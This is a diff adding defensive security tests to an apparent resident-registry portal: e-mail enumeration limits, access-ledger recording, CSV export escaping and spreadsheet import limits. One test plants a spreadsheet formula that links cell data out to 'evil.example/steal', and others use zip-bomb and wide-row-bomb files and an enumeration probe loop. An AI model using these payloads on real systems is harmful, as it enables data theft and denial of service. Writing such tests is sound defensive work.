@@ -5,6 +5,7 @@ import { adminForFile, residentForFile, residentSession } from '../utils/account
 import { stoppedClock } from '../utils/clock';
 import { registrationPayload, RESIDENT_PASSWORD } from '../utils/fixtures';
 import { fingerprint as tableFingerprint } from '../utils/fingerprint';
+import { wideRowBomb, zipBomb } from '../utils/hostile-workbooks';
 import { samplePdf, samplePng } from '../utils/sample-files';
 import { testServerForFile, TEST_JWT_SECRET } from '../utils/test-server';
 import { enrolOverRest, passwordStep, totpCode, wrongCodes } from '../utils/two-factor';
@@ -443,5 +444,114 @@ describe('two-factor sign-in', () => {
       `SELECT count(*) FILTER (WHERE used_at IS NULL)::int AS unused FROM user_recovery_code WHERE user_id = $1`, [resident.id]);
     expect(codesAfter).toEqual(codesBefore);
     expect(await fingerprint()).toEqual(before);
+  });
+});
+
+describe('squatting and probing e-mail addresses', () => {
+  /** A registration as if it came from `address` (the app believes X-Forwarded-For from its loopback proxy). */
+  async function registerFrom(address: string, email: string): Promise<{ status: number; body: any }> {
+    const response = await fetch(`${server.url}/api/auth/user/`, {
+      method: 'POST', headers: { 'content-type': 'application/json', 'x-forwarded-for': address }, body: JSON.stringify(registrationPayload({ email })),
+    });
+    return { status: response.status, body: await response.json() };
+  }
+
+  it('refuses an address under .invalid or .localhost, the placeholder an erasure once gave an account included, and stores nothing', async () => {
+    const before = await fingerprint();
+    for (const email of [`erased-${owner.id}@erased.invalid`, 'erased-1@ERASED.INVALID', 'x@erased.invalid.', 'juan@portal.localhost']) {
+      const { status, body } = await registerFrom('198.18.0.1', email);
+      expectClean(status, body);
+      expect({ email, status, fields: Object.keys(body) }).toEqual({ email, status: 400, fields: ['email'] });
+    }
+    expect(await fingerprint()).toEqual(before);
+  });
+
+  it('stops an address going through a list of e-mails to learn which have an account (AUTH_TAKEN_EMAILS_PER_ADDRESS, 10 an hour)', async () => {
+    const prober = '198.18.0.2';
+    for (let probe = 0; probe < 10; probe += 1) expect((await registerFrom(prober, owner.email)).status).toBe(400);
+    const before = await fingerprint();
+    for (const email of [owner.email, stranger.email, 'nobody.at.all@example.com']) {
+      const { status, body } = await registerFrom(prober, email);
+      expectClean(status, body);
+      expect({ email, status }).toEqual({ email, status: 429 });
+      expect(body.detail).toMatch(/already have an account/);
+    }
+    expect(await fingerprint()).toEqual(before);
+  });
+});
+
+describe('looking a neighbour up without a trace (the access ledger records lists, searches and exports)', () => {
+  const ledgerRows = async (): Promise<number> => (await server.database.db.query('SELECT count(*)::int AS n FROM data_access'))[0].n;
+
+  it('records each search by name that showed someone, hostile ones answered cleanly, and lets a resident list no one', async () => {
+    for (const search of INJECTIONS) {
+      const before = await ledgerRows();
+      const answer = await server.graphql<{ residents: { items: Array<{ id: number }> } }>(
+        'query ($search: String) { residents(search: $search) { items { id } } }', { search }, admin.access);
+      // A control byte is refused as text no column may hold; anything else is a search like any other.
+      const shown = answer.errors ? 0 : answer.data!.residents.items.length;
+      expect({ search, codes: (answer.errors ?? []).map((error) => error.extensions?.code) })
+        .toEqual({ search, codes: answer.errors ? ['BAD_USER_INPUT'] : [] });
+      expect({ search, recorded: await ledgerRows() - before }).toEqual({ search, recorded: shown > 0 ? 1 : 0 });
+    }
+    // A search for the owner by name leaves a row that names them, and they read it as a search.
+    const [{ last_name: lastName }] = await server.database.db.query('SELECT last_name FROM "user" WHERE id = $1', [owner.id]);
+    await server.graphql('query ($search: String) { residents(search: $search) { items { id } } }', { search: lastName }, admin.access);
+    const [row] = await server.database.db.query(`SELECT kind, resident_ids FROM data_access ORDER BY id DESC LIMIT 1`);
+    expect(row.kind).toBe('searched');
+    expect(row.resident_ids).toContain(owner.id);
+
+    const before = await ledgerRows();
+    const refused = await server.rest('GET', '/auth/user/', undefined, owner.access);
+    expect(refused.status).toBe(403);
+    expectClean(refused.status, refused.body);
+    expect(await ledgerRows()).toBe(before);
+  });
+});
+
+describe('text that turns into a formula, and a namesake after a stranger\'s record', () => {
+  it("writes a barangay name starting like a formula into the city roll-up CSV as text, whoever typed it", async () => {
+    const { bootstrapCityAdministrator } = await import('../../server/src/modules/users/admin-bootstrap');
+    const name = '=HYPERLINK("http://evil.example/steal?c="&A1,"Open")';
+    const renamed = await server.graphql(`mutation ($input: BarangaySettingsInput!) { updateBarangaySettings(input: $input) { name } }`,
+      { input: { name, referencePrefix: 'BRGY' } }, admin.access);
+    expect(renamed.errors).toBeUndefined();
+    const city = { cityAdminEmail: 'city-admin@caloocan.example.ph', cityAdminPassword: 'Sampaguita-Lane-1962' };
+    await bootstrapCityAdministrator(server.database.db, { ...city, cityName: 'City of Hostile', dataDir: server.dataDir });
+    const signedIn = await server.rest('POST', '/auth/token/', { email: city.cityAdminEmail, password: city.cityAdminPassword });
+    const csv = await fetch(`${server.url}/api/city/rollup.csv`, { headers: { authorization: `Bearer ${signedIn.body.access}` } });
+    expect(csv.status).toBe(200);
+    const text = await csv.text();
+    expect(text).toContain(`"'=HYPERLINK(""http://evil.example/steal?c=""&A1,""Open"")"`);
+    expect(text).not.toMatch(/(^|[\r\n,])"?=/);
+  });
+
+  it("refuses to link an unverified account to the registry record of someone with the same name and birthdate, changing nothing", async () => {
+    const person = { first_name: 'Corazon', last_name: 'Aquino', birthdate: '1933-01-25' };
+    const created = await server.graphql<{ createInhabitant: { id: number } }>('mutation ($input: InhabitantInput!) { createInhabitant(input: $input) { id } }',
+      { input: { lastName: 'Aquino', firstName: 'Corazon', sex: 'FEMALE', birthdate: '1933-01-25', birthPlace: 'Paniqui', civilStatus: 'WIDOWED' } }, admin.access);
+    const namesake = await residentSession(server, { overrides: person });
+    const before = await fingerprint();
+    const link = await server.graphql('mutation ($userId: Int!, $inhabitantId: Int!) { linkResidentToInhabitant(userId: $userId, inhabitantId: $inhabitantId) { residentId } }',
+      { userId: namesake.id, inhabitantId: created.data!.createInhabitant.id }, admin.access);
+    expect(link.errors?.[0]?.extensions).toMatchObject({ code: 'CONFLICT', reason: 'RESIDENT_NOT_VERIFIED' });
+    expect(await fingerprint()).toEqual(before);
+    const requests = await server.rest('GET', '/document-requests/', undefined, namesake.access);
+    expectClean(requests.status, requests.body);
+    expect(requests.body).toEqual([]);
+  });
+});
+
+describe('spreadsheet imports', () => {
+  it('refuses a wide-row bomb and a zip bomb with a 400 that says why, writing no import', async () => {
+    const imports = async () => Number((await server.database.db.query('SELECT count(*) AS n FROM inhabitant_import'))[0].n);
+    const before = await imports();
+    for (const file of [wideRowBomb(10_000), zipBomb(300 * 1024 * 1024, { declaredBytes: 1024 })]) {
+      const refused = await restMultipart(server, 'POST', '/registry/imports/', {}, { file }, admin.access);
+      expectClean(refused.status, refused.body);
+      expect(refused.status).toBe(400);
+      expect(refused.body.file[0]).toMatch(/column XFD|unpacks to more than the import reads/);
+    }
+    expect(await imports()).toBe(before);
   });
 });
